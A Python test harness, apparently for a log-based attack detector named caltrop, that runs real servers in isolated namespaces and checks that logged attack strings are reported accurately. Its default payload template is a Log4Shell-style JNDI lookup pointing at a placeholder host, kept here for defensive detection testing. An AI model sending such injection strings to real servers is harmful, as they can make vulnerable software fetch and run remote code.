"""Real servers in namespaces of their own: their own root laid over this host's, their own loopback, their own processes.

What a server logs is the reference: whatever name of ours stands in its log was an attack we sent, so detect must report it,
with the field, client, target and status that we know from having sent it, and nothing else."""
import json
import os
import pathlib
import socket
import subprocess
import sys
import threading
import time
import unittest

DEADLINE = 60
HERE = pathlib.Path(__file__).resolve().parent
FOLDER_OF_OUTLETS = HERE.parent / "outlet"
INSIDE = "CALTROP_SERVERS_INSIDE"


def skip(reason):
    print(reason)
    sys.exit(77)


def enter(folder):
    """Fetches the servers, then goes on as a child in namespaces of its own; all that was started ends with it."""
    if os.environ.get(INSIDE):
        subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
        return
    done = subprocess.run([HERE / "fetch-servers.sh", folder], stdout=subprocess.PIPE, text=True, check=False)
    if done.returncode:
        print(done.stdout, end="")
        sys.exit(done.returncode)
    unshare = ["unshare", "--mount", "--net", "--pid", "--fork", "--kill-child", "--mount-proc"]
    if subprocess.run([*unshare, "true"], check=False, stderr=subprocess.DEVNULL).returncode:
        skip("no namespaces can be made here")
    sys.exit(subprocess.run([*unshare, sys.executable, "-B", *sys.argv], env=dict(os.environ, **{INSIDE: "1"}), check=False).returncode)


def await_that(condition, what):
    pause, end = threading.Event(), time.monotonic() + DEADLINE
    while not (value := condition()):
        if time.monotonic() > end:
            raise AssertionError("waited in vain for " + what)
        pause.wait(0.02)
    return value


class Server:
    """One server in a root of its own."""

    def __init__(self, base, folder, name):
        self.name, self.children = name, []
        self.tmp = pathlib.Path(base) / name
        self.tmp.mkdir()
        subprocess.run(["mount", "-t", "tmpfs", "none", self.tmp], check=True)
        self.said = open(self.tmp / "said", "ab")
        self.root = self.tmp / "root"
        for part in ("up", "work", "root"):
            (self.tmp / part).mkdir()
        layers = "lowerdir=/,upperdir=%s,workdir=%s" % (self.tmp / "up", self.tmp / "work")
        if subprocess.run(["mount", "-t", "overlay", "overlay", "-o", layers, self.root], check=False).returncode:
            skip("no overlay can be mounted here")
        tar = subprocess.Popen(["tar", "-C", folder / name, "-c", "."], stdout=subprocess.PIPE)
        subprocess.run(["tar", "-C", self.root, "-x", "--keep-directory-symlink"], stdin=tar.stdout, check=True)
        assert tar.wait() == 0
        tar.stdout.close()
        subprocess.run(["mount", "-t", "devtmpfs", "none", self.root / "dev"], check=False, stderr=subprocess.DEVNULL)
        subprocess.run(["mount", "-t", "proc", "none", self.root / "proc"], check=True)
        subprocess.run(["mount", "-t", "tmpfs", "none", self.root / "tmp"], check=True)
        subprocess.run(["chroot", self.root, "ldconfig"], check=True)
        self.write("/srv/index.html", "hello\n")

    def path(self, name):
        return self.root / name.lstrip("/")

    def write(self, name, text, mode=0o644):
        path = self.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
        return path

    def run(self, *command, **options):
        return subprocess.run(["chroot", self.root, *command], check=True, **options)

    def start(self, *command, port=None):
        child = subprocess.Popen(["chroot", self.root, *command], stdin=subprocess.DEVNULL, stdout=self.said, stderr=self.said)
        self.children.append(child)

        def up():
            assert child.poll() is None, (self.name, (self.tmp / "said").read_text(errors="replace"))
            with socket.socket() as s:
                return s.connect_ex(("127.0.0.1", port)) == 0

        await_that(up, f"{self.name} to listen")
        return child

    def stop(self):
        for child in self.children:
            child.terminate()
            child.wait(DEADLINE)

    def unmount(self):
        self.said.close()
        subprocess.run(["umount", "--recursive", "--lazy", self.tmp], check=True)


def talk(port, data, client="127.0.0.1", shut=True):
    """Sends bytes from an address of loopback; what comes back until the other side closes, or a second of silence."""
    family = socket.AF_INET6 if ":" in client else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(DEADLINE)
        s.bind((client, 0))
        s.connect(("::1" if ":" in client else "127.0.0.1", port))
        s.sendall(data)
        got = b""
        try:
            while chunk := s.recv(65536):
                got += chunk
        except ConnectionResetError:
            pass
        return got


class Datagrams:
    """A syslog server: what arrives, one line each."""

    def __init__(self, port):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", port))
        self.got = []
        self.reader = threading.Thread(target=self.read)

    def read(self):
        while (data := self.socket.recv(65536)) != b"end":
            self.got.append(data)

    def __enter__(self):
        self.reader.start()
        return self

    def __exit__(self, *_):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"end", self.socket.getsockname())
        self.reader.join(DEADLINE)
        self.socket.close()

    def lines(self):
        return b"".join(data.rstrip(b"\n") + b"\n" for data in self.got)


class Backend:
    """What a proxy forwards to: each connection gets one answer to whatever it asks."""

    def __init__(self, port):
        self.socket = socket.create_server(("127.0.0.1", port), backlog=128)
        self.server = threading.Thread(target=self.serve)

    def serve(self):
        while True:
            connection, _ = self.socket.accept()
            with connection:
                got = b""
                while b"\r\n\r\n" not in got and (chunk := connection.recv(65536)):
                    got += chunk
                if got == b"end":
                    return
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n")

    def __enter__(self):
        self.server.start()
        return self

    def __exit__(self, *_):
        with socket.create_connection(self.socket.getsockname()) as s:
            s.sendall(b"end")
        self.server.join(DEADLINE)
        self.socket.close()


class Sent:
    """What was sent: for each name the fields it may be found in, and what the event must say beside."""

    def __init__(self, prefix):
        self.prefix, self.expected = prefix, {}

    def name(self, fields, **expect):
        name = "%s%03dx" % (self.prefix, len(self.expected))
        self.expected[name] = (fields, expect)
        return name

    def payload(self, fields, template="${jndi:ldap://%s.example/a}", **expect):
        return template % self.name(fields, **expect)


def dig(event, path):
    for key in path.split("."):
        event = event.get(key, {}) if isinstance(event, dict) else {}
    return event


def brief(line, event):
    kept = {k: event.get(k) for k in ("source", "url", "http")} | {k: event["caltrop"][k] for k in ("format", "grade", "field", "normal")}
    return "\n%r\n%s" % (line[-600:], json.dumps(kept))


def look(case, caltrop, log, sent, format_name=None, least=1, also=(), options=(), without=(), grades=None, hidden=False):
    """What detect says about one log, held against what was sent. Returns the events by name."""
    raw = pathlib.Path(log).read_bytes()
    lines = raw.split(b"\n")
    done = subprocess.run([caltrop, "detect", "-q", "--json", *options, log], capture_output=True, check=False)
    case.assertIn(done.returncode, (0, 1), done.stderr)
    found = {}
    events = [json.loads(line) for line in done.stdout.splitlines()]
    for event in events:
        text = json.dumps(event)
        for name in sent.expected:
            if name in text:
                found.setdefault(name, []).append(event)
    logged = [n for n, (_, expect) in sent.expected.items() if n.encode() in raw or (hidden and expect.get("hidden"))]
    case.assertGreaterEqual(len(logged), least, (log, raw[-3000:]))
    for name in sorted({*logged, *found}): # also what was logged as base64 alone
        fields, expect = sent.expected[name]
        with case.subTest(log=str(log), name=name):
            case.assertIn(name, found.keys(), ("not reported", [text for text in lines if name.encode() in text]))
            for event in found[name]:
                line = lines[event["caltrop"]["line"] - 1]
                told = brief(line, event)
                case.assertIn(event["caltrop"]["grade"], grades or expect.get("grade", ("exploit",)), told)
                field = event["caltrop"]["field"]
                if field not in also and not field.startswith(tuple(a for a in also if a.endswith("."))):
                    case.assertIn(field, fields, told)
                if format_name:
                    case.assertEqual(event["caltrop"]["format"], format_name, told)
                for key, value in expect.items():
                    told_elsewhere = key == "source__ip" and str(value).encode() not in line
                    if key not in ("grade", "hidden") and key not in without and value is not None and not told_elsewhere:
                        case.assertEqual(dig(event, key.replace("__", ".")), value, key + told)
    with case.subTest(log=str(log), what="nothing else"):
        case.assertEqual([brief(b"", e) for e in events if not any(e in f for f in found.values())], [])
    return found


class Case(unittest.TestCase):
    maxDiff = None
